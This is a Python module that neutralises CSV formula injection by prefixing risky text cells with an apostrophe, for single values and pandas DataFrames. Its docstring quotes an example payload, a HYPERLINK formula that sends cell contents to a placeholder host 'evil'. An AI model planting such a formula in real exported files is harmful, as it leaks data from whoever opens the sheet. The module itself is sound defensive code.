"""Table cells that stay inert when a table is opened in a spreadsheet.

A cell that begins with ``=``, ``+``, ``-`` or ``@`` (or a tab or carriage return, which some
spreadsheets skip before them) is a formula to Excel, LibreOffice and Google Sheets:
``=HYPERLINK("http://evil/?"&A1, "click")`` in a display name or a session title would run
for whoever opens the CSV. Such text cells get a leading apostrophe, OWASP's advice for CSV
injection: the spreadsheet shows the text as written. Numbers are left alone.
"""

from __future__ import annotations

from typing import TYPE_CHECKING, Any

if TYPE_CHECKING:  # a frame comes with pandas loaded; a single cell needs none of it
    import pandas as pd

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def inert_cell(value: Any) -> Any:
    """``value`` with a leading apostrophe when it is text a spreadsheet would run."""
    if isinstance(value, str) and value.startswith(FORMULA_START):
        return "'" + value
    return value


def inert_frame(frame: pd.DataFrame) -> pd.DataFrame:
    """A copy of ``frame`` whose text cells (and text column names) are inert."""
    from pandas.api.types import is_string_dtype  # loaded already: ``frame`` is pandas'

    safe = frame.copy()
    for column in safe.columns:
        if safe[column].dtype == object or is_string_dtype(safe[column].dtype):
            safe[column] = safe[column].map(inert_cell)
    safe.columns = [inert_cell(c) for c in safe.columns]
    return safe
